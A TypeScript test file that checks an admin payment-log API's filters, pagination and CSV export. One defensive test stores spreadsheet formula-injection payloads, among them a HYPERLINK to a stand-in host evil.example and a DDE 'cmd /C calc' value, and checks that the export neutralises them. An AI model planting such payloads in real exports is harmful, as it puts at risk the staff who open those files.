// GET /api/admin/pay-logs: each filter returns exactly the expected rows of a fixed set of
// messages, pagination returns each row once, and format=csv is exactly the filtered rows with
// formula-looking cells defused.
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { admin, type ApiClient, payLogsFor } from '../../support/api';
import { addDays, allPages, dayIn, namedShopper, notify, parseCsv, pay, placeOrder, type Placed } from './helpers';

const base = inject('baseUrl');
const TZ = 'Asia/Shanghai';

interface Log {
  id: number;
  orderNo: string | null;
  username: string | null;
  transactionId: string | null;
  totalFee: number | null;
  tradeState: string;
  source: string;
  verdict: string;
  detail: string | null;
  createdAt: string;
}

let operator: ApiClient;
let carol: string;
// c1: applied, then a duplicate copy, then a wrong amount (anomaly). c2: a failed payment
// (rejected, PAYERROR). c3: a forged notify with another key (unverified, SUCCESS).
let c1: Placed, c2: Placed, c3: Placed;
let logs: Log[];

const ids = (rows: { id: number }[]) => rows.map((r) => r.id);
const idsWhere = (pred: (l: Log) => boolean) => ids(logs.filter(pred));

async function get(query: string): Promise<Log[]> {
  return allPages<Log>(operator, `/api/admin/pay-logs?${query}`);
}

beforeAll(async () => {
  operator = await admin(base);
  const shopper = await namedShopper(base, 'plog');
  carol = shopper.username;
  c1 = await placeOrder(shopper.client);
  c2 = await placeOrder(shopper.client);
  c3 = await placeOrder(shopper.client);
  const txn = await pay(base, c1);
  await notify(base, c1, { overrides: { transaction_id: txn } }); // the same payment again
  await notify(base, c1, { overrides: { total_fee: '1', cash_fee: '1' } });
  await notify(base, c2, { overrides: { result_code: 'FAIL', err_code: 'NOTENOUGH', err_code_des: 'balance' } });
  await notify(base, c3, { key: 'X'.repeat(32) });
  logs = (await Promise.all([c3, c2, c1].map((o) => payLogsFor(operator, o.orderNo)))).flat() as unknown as Log[];
  logs.sort((a, b) => b.id - a.id);
  expect(logs.map((l) => l.verdict).sort()).toEqual(['anomaly', 'applied', 'duplicate', 'rejected', 'unverified']);
});

describe('GET /api/admin/pay-logs filters', () => {
  it('by user: every message about that shopper’s orders, newest first, with the username', async () => {
    const rows = await get(`user=${carol}`);
    expect(ids(rows)).toEqual(ids(logs));
    expect(rows.every((r) => r.username === carol)).toBe(true);
    expect(rows[0]).toEqual(
      expect.objectContaining({
        id: expect.any(Number),
        orderNo: expect.any(String),
        tradeState: expect.any(String),
        source: 'notify',
        verdict: expect.any(String),
        createdAt: expect.any(String),
      }),
    );
    expect(Object.keys(rows[0])).toEqual(
      expect.arrayContaining(['id', 'orderNo', 'transactionId', 'totalFee', 'tradeState', 'source', 'verdict', 'createdAt']),
    );
  });

  it('by trade state', async () => {
    expect(ids(await get(`user=${carol}&state=SUCCESS`))).toEqual(idsWhere((l) => l.tradeState === 'SUCCESS'));
    expect(ids(await get(`user=${carol}&state=PAYERROR`))).toEqual(idsWhere((l) => l.orderNo === c2.orderNo));
    expect(await get(`user=${carol}&state=NOTPAY`)).toEqual([]);
  });

  it('by verdict', async () => {
    for (const verdict of ['applied', 'duplicate', 'anomaly', 'rejected', 'unverified', 'closed']) {
      expect(ids(await get(`user=${carol}&verdict=${verdict}`)), verdict).toEqual(idsWhere((l) => l.verdict === verdict));
    }
    expect(ids(await get(`user=${carol}&verdict=unverified&state=SUCCESS`))).toEqual(idsWhere((l) => l.orderNo === c3.orderNo));
  });

  it('by order', async () => {
    expect(ids(await get(`orderNo=${c1.orderNo}`))).toEqual(idsWhere((l) => l.orderNo === c1.orderNo));
    expect(ids(await get(`orderNo=${c1.orderNo}&verdict=anomaly`))).toEqual(idsWhere((l) => l.orderNo === c1.orderNo && l.verdict === 'anomaly'));
  });

  it('by date: local days in REPORT_TZ; date-times with from inclusive and to exclusive', async () => {
    for (const day of new Set(logs.map((l) => dayIn(l.createdAt, TZ)))) {
      expect(ids(await get(`user=${carol}&from=${day}&to=${day}`))).toEqual(idsWhere((l) => dayIn(l.createdAt, TZ) === day));
      expect(ids(await get(`user=${carol}&to=${addDays(day, -1)}`))).toEqual(idsWhere((l) => dayIn(l.createdAt, TZ) < day));
      expect(ids(await get(`user=${carol}&from=${addDays(day, 1)}`))).toEqual(idsWhere((l) => dayIn(l.createdAt, TZ) > day));
    }
    const pivot = logs[2];
    const at = encodeURIComponent(pivot.createdAt);
    expect(ids(await get(`user=${carol}&from=${at}`))).toEqual(idsWhere((l) => l.createdAt >= pivot.createdAt));
    expect(ids(await get(`user=${carol}&to=${at}`))).toEqual(idsWhere((l) => l.createdAt < pivot.createdAt));
  });

  it('pages through every row exactly once, whatever the page size', async () => {
    for (const limit of [1, 2, 3]) {
      const rows = await allPages<Log>(operator, `/api/admin/pay-logs?user=${carol}`, limit);
      expect(ids(rows), `limit ${limit}`).toEqual(ids(logs));
    }
    const first = await operator.get(`/api/admin/pay-logs?user=${carol}&limit=5`);
    expect(first.body.items).toHaveLength(5);
    expect(first.body.nextCursor).toBeNull();
  });

  it.each([
    ['state=BOGUS', 'state'],
    ['state=success', 'state'],
    ['verdict=weird', 'verdict'],
    ['from=2026-02-30', 'from'],
    ['to=2026-1-1', 'to'],
    ['from=2026-01-01T00:00:00', 'from'],
    ['limit=1000', 'limit'],
    ['format=xml', 'format'],
  ])('answers 400 naming the field for %s', async (query, field) => {
    const res = await operator.get(`/api/admin/pay-logs?${query}`);
    expect(res.status).toBe(400);
    expect(res.body.fields).toHaveProperty(field);
  });
});

describe('GET /api/admin/pay-logs?format=csv', () => {
  async function csv(query: string) {
    const res = await operator.get(`/api/admin/pay-logs?${query}&format=csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="pay-logs-[\w-]+\.csv"$/);
    const [header, ...rows] = parseCsv(res.text);
    return { header, rows, records: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
  }

  it('holds exactly the filtered rows (not only one page), in the same order', async () => {
    const { header, records } = await csv(`user=${carol}&limit=1`);
    expect(header).toEqual(['id', 'created_at', 'order_no', 'username', 'transaction_id', 'total_fee_fen', 'trade_state', 'source', 'verdict', 'detail']);
    expect(records.map((r) => Number(r.id))).toEqual(ids(logs));
    for (const [i, log] of logs.entries()) {
      expect(records[i]).toEqual({
        id: String(log.id),
        created_at: log.createdAt,
        order_no: log.orderNo ?? '',
        username: carol,
        transaction_id: log.transactionId ?? '',
        total_fee_fen: log.totalFee === null ? '' : String(log.totalFee),
        trade_state: log.tradeState,
        source: log.source,
        verdict: log.verdict,
        detail: log.detail ?? '',
      });
    }
    expect((await csv(`user=${carol}&verdict=anomaly`)).records.map((r) => Number(r.id))).toEqual(idsWhere((l) => l.verdict === 'anomaly'));
    expect((await csv(`user=${carol}&state=NOTPAY`)).rows).toEqual([]);
  });

  it('defuses cells a spreadsheet would run as formulas, and quotes per RFC 4180', async () => {
    // A stranger controls what a forged notify carries; it is stored (verdict rejected) as sent.
    const tag = Date.now().toString(36);
    const payloads = [`=HYPERLINK("http://evil.example/${tag}","click")`, `+${tag}`, `-${tag}`, `@SUM(1,${tag})`];
    for (const orderNo of payloads) {
      await notify(base, { orderNo, totalFee: 100 }, { overrides: { transaction_id: `=cmd|' /C calc'!${tag}` } });
      const { records } = await csv(`orderNo=${encodeURIComponent(orderNo)}`);
      expect(records).toHaveLength(1);
      expect(records[0].order_no).toBe(`'${orderNo}`);
      expect(records[0].transaction_id).toBe(`'=cmd|' /C calc'!${tag}`);
      expect(records[0].verdict).toBe('rejected');
      // The JSON API shows the stored value untouched.
      const [json] = await get(`orderNo=${encodeURIComponent(orderNo)}`);
      expect(json.orderNo).toBe(orderNo);
    }
    const raw = (await operator.get(`/api/admin/pay-logs?orderNo=${encodeURIComponent(payloads[0])}&format=csv`)).text;
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/${tag}"",""click"")"`);
  });

  it('answers 400, not a file, for a bad filter', async () => {
    const res = await operator.get('/api/admin/pay-logs?state=BOGUS&format=csv');
    expect(res.status).toBe(400);
    expect(res.body.fields).toHaveProperty('state');
  });
});
